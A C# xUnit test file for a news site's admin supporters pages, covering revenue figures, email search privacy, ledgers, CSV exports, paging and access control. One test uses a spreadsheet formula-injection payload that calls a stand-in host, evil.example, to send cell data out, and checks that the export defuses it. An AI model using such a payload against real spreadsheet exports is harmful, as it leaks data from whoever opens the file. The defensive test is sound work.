using System.Net;
using Masthead.Contributions;
using Masthead.Payments.Sandbox;
using Masthead.Staff;
using Masthead.Tests.Articles;
using Masthead.Tests.Contributions;
using Masthead.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Masthead.Tests.Admin;

public abstract class SupportersAdminTests(MastheadFactory factory)
{
    [Fact]
    public async Task The_summary_gives_active_monthly_supporters_and_monthly_recurring_revenue_per_currency()
    {
        await using var own = factory.Fresh();
        using var reader = own.CreateBrowserClient();
        var monthly = $"monthly-{EditorDesk.Unique()}@example.org";
        var euro = $"euro-{EditorDesk.Unique()}@example.org";
        await SupportDesk.GiveAsync(own, reader, monthly, "5");
        await SupportDesk.GiveAsync(own, reader, euro, "3", currency: "EUR");
        await SupportDesk.GiveAsync(own, reader, $"annual-{EditorDesk.Unique()}@example.org", "60", "Annual");
        await SupportDesk.GiveAsync(own, reader, $"once-{EditorDesk.Unique()}@example.org", "10", "OneTime");
        using var admin = await own.SignedInAdminAsync();

        var page = await own.GetPageAsync(admin, "/admin/supporters");

        Assert.StartsWith("2 ", page.QuerySelector(".figures dd")!.TextContent.Trim());
        Assert.Contains("and 1 giving yearly", page.QuerySelector(".figures dd")!.TextContent);
        Assert.StartsWith("€3 · $10 ", page.QuerySelector("dd.mrr")!.TextContent.Trim());
        Assert.StartsWith("€3 · $75 ", page.QuerySelector("dd.received")!.TextContent.Trim());
        Assert.Equal(4, page.QuerySelectorAll("table.supporters tbody tr").Length);

        // The euro supporter's renewal fails: their money moves from recurring revenue to "at risk".
        await DeliverAsync(own, SupporterIdOf(own, euro), (customer, subscription, _) =>
            new SandboxEvent("invoice.payment_failed", customer, own.Clock.GetUtcNow(), Subscription: subscription));
        // And the monthly supporter's first payment is refunded: received is net of it.
        await DeliverAsync(own, SupporterIdOf(own, monthly), (customer, _, payment) =>
            new SandboxEvent("charge.refunded", customer, own.Clock.GetUtcNow(), Payment: payment, Amount: 500, Currency: "USD"));

        page = await own.GetPageAsync(admin, "/admin/supporters");
        Assert.StartsWith("1 ", page.QuerySelector(".figures dd")!.TextContent.Trim());
        Assert.StartsWith("$10 ", page.QuerySelector("dd.mrr")!.TextContent.Trim());
        Assert.StartsWith("€3 · $70 ", page.QuerySelector("dd.received")!.TextContent.Trim());
        Assert.Contains("€3 a month at risk", page.QuerySelector("dd.at-risk")!.TextContent);
    }

    [Fact]
    public async Task Searching_by_email_finds_exactly_that_supporter_and_the_list_never_shows_an_address()
    {
        using var reader = factory.CreateBrowserClient();
        var wanted = $"wanted-{EditorDesk.Unique()}@example.org";
        var other = $"other-{EditorDesk.Unique()}@example.org";
        await SupportDesk.GiveAsync(factory, reader, wanted, "7");
        await SupportDesk.GiveAsync(factory, reader, other, "7");
        using var admin = await factory.SignedInAdminAsync();

        var found = await factory.GetPageAsync(admin, "/admin/supporters?email=" + Uri.EscapeDataString("  " + wanted.ToUpperInvariant() + " "));

        var rows = found.QuerySelectorAll("table.supporters tbody tr");
        var row = Assert.Single(rows);
        Assert.Equal($"/admin/supporters/{SupporterIdOf(factory, wanted)}", row.QuerySelector("a")!.GetAttribute("href"));
        Assert.Contains("exact match", found.QuerySelector("form[role=search]")!.TextContent);
        using var list = await admin.GetAsync(new Uri("/admin/supporters", UriKind.Relative));
        var listed = await list.Content.ReadAsStringAsync();
        Assert.DoesNotContain(wanted, listed, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(other, listed, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(wanted, found.Body!.OuterHtml.Replace(found.QuerySelector("input#email")!.OuterHtml, "", StringComparison.Ordinal), StringComparison.OrdinalIgnoreCase);

        var nobody = await factory.GetPageAsync(admin, "/admin/supporters?email=" + Uri.EscapeDataString("wanted@example.org"));
        Assert.Empty(nobody.QuerySelectorAll("table.supporters tbody tr"));
        Assert.Contains("No supporter has that address.", nobody.QuerySelector("[role=status]")!.TextContent);
    }

    [Fact]
    public async Task A_supporter_s_page_shows_their_address_subscription_and_ledger_with_the_refund()
    {
        using var reader = factory.CreateBrowserClient();
        var email = $"ledger-{EditorDesk.Unique()}@example.org";
        await SupportDesk.GiveAsync(factory, reader, email, "5", name: "Vera Ledger", anonymous: false);
        var id = SupporterIdOf(factory, email);
        await DeliverAsync(factory, id, (customer, _, payment) =>
            new SandboxEvent("charge.refunded", customer, factory.Clock.GetUtcNow(), Payment: payment, Amount: 500, Currency: "USD"));
        using var admin = await factory.SignedInAdminAsync();

        var page = await factory.GetPageAsync(admin, $"/admin/supporters/{id}");

        Assert.Equal("Vera Ledger", page.QuerySelector("h1")!.TextContent);
        Assert.Equal(email, page.QuerySelector(".supporter-email")!.TextContent);
        Assert.Contains("$5 a month", page.QuerySelector("table")!.TextContent);
        var amounts = page.QuerySelectorAll("table.ledger td.number").Select(td => td.TextContent).ToList();
        Assert.Equal(["−$5", "$5"], amounts);
        Assert.Contains("Refund", page.QuerySelector("table.ledger tbody tr")!.TextContent);
        using var missing = await admin.GetAsync(new Uri("/admin/supporters/999999", UriKind.Relative));
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
    }

    [Fact]
    public async Task The_supporters_export_parses_back_and_a_name_typed_as_a_formula_stays_text()
    {
        using var reader = factory.CreateBrowserClient();
        var email = $"formula-{EditorDesk.Unique()}@example.org";
        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click, please\")";
        await SupportDesk.GiveAsync(factory, reader, email, "5", name: Formula, anonymous: false);
        var id = SupporterIdOf(factory, email);
        using var admin = await factory.SignedInAdminAsync();

        using var response = await admin.GetAsync(new Uri("/admin/supporters?handler=Csv&emails=true", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        var table = Csv.Parse(await response.Content.ReadAsStringAsync());
        var header = table[0];
        Assert.Equal(["id", "name", "anonymous", "email", "provider", "created_at", "subscription_status", "subscription_frequency", "subscription_amount", "subscription_currency"],
            header.Take(10));
        Assert.All(table, row => Assert.Equal(header.Count, row.Count));
        var row = table.Single(r => r[0] == id.ToString(System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal("'" + Formula, row[header.IndexOf("name")]);
        Assert.Equal(email, row[header.IndexOf("email")]);
        Assert.Equal("Active", row[header.IndexOf("subscription_status")]);
        Assert.Equal("5.00", row[header.IndexOf("subscription_amount")]);
        Assert.Equal("5.00", row[header.IndexOf("given_USD")]);

        using var withoutEmails = await admin.GetAsync(new Uri("/admin/supporters?handler=Csv", UriKind.Relative));
        var text = await withoutEmails.Content.ReadAsStringAsync();
        Assert.DoesNotContain("email", Csv.Parse(text)[0]);
        Assert.DoesNotContain(email, text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_contributions_export_keeps_a_refund_a_plain_negative_number()
    {
        using var reader = factory.CreateBrowserClient();
        var email = $"refund-csv-{EditorDesk.Unique()}@example.org";
        await SupportDesk.GiveAsync(factory, reader, email, "5");
        var id = SupporterIdOf(factory, email);
        await DeliverAsync(factory, id, (customer, _, payment) =>
            new SandboxEvent("charge.refunded", customer, factory.Clock.GetUtcNow(), Payment: payment, Amount: 500, Currency: "USD"));
        using var admin = await factory.SignedInAdminAsync();

        using var response = await admin.GetAsync(new Uri("/admin/contributions?handler=Csv&kind=Refund", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var table = Csv.Parse(await response.Content.ReadAsStringAsync());
        var header = table[0];
        var refund = table.Single(r => r[header.IndexOf("supporter_id")] == id.ToString(System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal("-5.00", refund[header.IndexOf("amount")]);
        Assert.Equal("Refund", refund[header.IndexOf("kind")]);
        Assert.All(table.Skip(1), r => Assert.Equal("Refund", r[header.IndexOf("kind")]));

        var page = await factory.GetPageAsync(admin, "/admin/contributions?kind=Refund");
        Assert.All(page.QuerySelectorAll("table.contributions tbody tr"), tr => Assert.Contains("Refund", tr.TextContent));
    }

    [Fact]
    public async Task The_list_comes_a_page_at_a_time_newest_first()
    {
        await using var own = factory.Fresh();
        await own.WithDbAsync(async db =>
        {
            for (var i = 0; i <= Masthead.Contributions.Admin.SupportersModel.PageSize; i++)
            {
                db.Supporters.Add(new Supporter
                {
                    Provider = SandboxProvider.ProviderName, CustomerRef = $"cus_page_{i}", Name = $"Reader {i}", Anonymous = false, CreatedAt = own.Clock.GetUtcNow().AddMinutes(i),
                });
            }

            await db.SaveChangesAsync();
        });
        using var admin = await own.SignedInAdminAsync();

        var first = await own.GetPageAsync(admin, "/admin/supporters");
        Assert.Equal(50, first.QuerySelectorAll("table.supporters tbody tr").Length);
        Assert.Equal("Reader 50", first.QuerySelector("table.supporters tbody tr a")!.TextContent);
        Assert.Equal("?page=2", first.QuerySelector(".pager a[rel=next]")!.GetAttribute("href"));
        var second = await own.GetPageAsync(admin, "/admin/supporters?page=2");
        Assert.Equal("Reader 0", Assert.Single(second.QuerySelectorAll("table.supporters tbody tr")).QuerySelector("a")!.TextContent);
        Assert.Null(second.QuerySelector(".pager a[rel=next]"));
        using var past = await admin.GetAsync(new Uri("/admin/supporters?page=3", UriKind.Relative));
        Assert.Equal(HttpStatusCode.NotFound, past.StatusCode);
    }

    [Theory]
    [InlineData("/admin/supporters?page=abc", "page number")]
    [InlineData("/admin/supporters?page=0", "page number")]
    [InlineData("/admin/contributions?kind=Gift", "not a kind of contribution")]
    [InlineData("/admin/contributions?handler=Csv&kind=1", "not a kind of contribution")]
    public async Task A_bad_address_gets_a_400_that_says_why(string url, string message)
    {
        using var admin = await factory.SignedInAdminAsync();
        using var response = await admin.GetAsync(new Uri(url, UriKind.Relative));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains(message, await response.Content.ReadAsStringAsync());
    }

    [Theory]
    [InlineData(StaffRole.Editor)]
    [InlineData(StaffRole.Writer)]
    public async Task Only_admins_open_supporters_contributions_and_their_exports(StaffRole role)
    {
        using var staff = await EditorDesk.SignedInAsAsync(factory, role);
        foreach (var url in new[] { "/admin/supporters", "/admin/supporters/1", "/admin/supporters?handler=Csv&emails=true", "/admin/contributions", "/admin/contributions?handler=Csv" })
        {
            using var response = await staff.GetAsync(new Uri(url, UriKind.Relative));
            Assert.True(response.Headers.Location?.ToString().Contains("/admin/denied", StringComparison.Ordinal) == true, $"{role} opened {url}: {(int)response.StatusCode}");
        }

        Assert.DoesNotContain("Supporters", (await factory.GetPageAsync(staff, "/admin")).QuerySelector("nav")!.TextContent, StringComparison.Ordinal);
    }

    private static int SupporterIdOf(MastheadFactory factory, string email)
    {
        var hash = SupportDesk.HashOf(factory, email);
        return factory.WithDb(db => db.Supporters.Single(s => s.EmailHash == hash).Id);
    }

    /// <summary>Delivers one provider event about supporter <paramref name="supporterId"/>, made from their customer, subscription and first payment references.</summary>
    private static async Task DeliverAsync(MastheadFactory factory, int supporterId, Func<string, string?, string, SandboxEvent> make)
    {
        var (customer, subscription, payment) = await factory.WithDbAsync(async db => (
            await db.Supporters.Where(s => s.Id == supporterId).Select(s => s.CustomerRef).SingleAsync(),
            await db.Subscriptions.Where(s => s.SupporterId == supporterId).Select(s => s.ProviderRef).FirstOrDefaultAsync(),
            await db.Contributions.Where(c => c.SupporterId == supporterId && c.Kind == ContributionKind.Payment).OrderBy(c => c.Id).Select(c => c.ProviderRef).FirstAsync()));
        var sandboxEvent = make(customer, subscription, payment);
        await using var scope = factory.Services.CreateAsyncScope();
        var inbox = scope.ServiceProvider.GetRequiredService<PaymentInbox>();
        await inbox.RecordAsync(SandboxProvider.ProviderName, "evt_admin_" + Guid.NewGuid().ToString("N"), sandboxEvent.Type, SandboxProvider.Payload(sandboxEvent), CancellationToken.None);
        await inbox.ProcessPendingAsync(CancellationToken.None);
    }
}

[Collection(SqliteCollection.Name)]
public sealed class SupportersAdminTestsOnSqlite(SqliteFactory factory) : SupportersAdminTests(factory);

[Collection(PostgresCollection.Name)]
public sealed class SupportersAdminTestsOnPostgres(PostgresFactory factory) : SupportersAdminTests(factory);
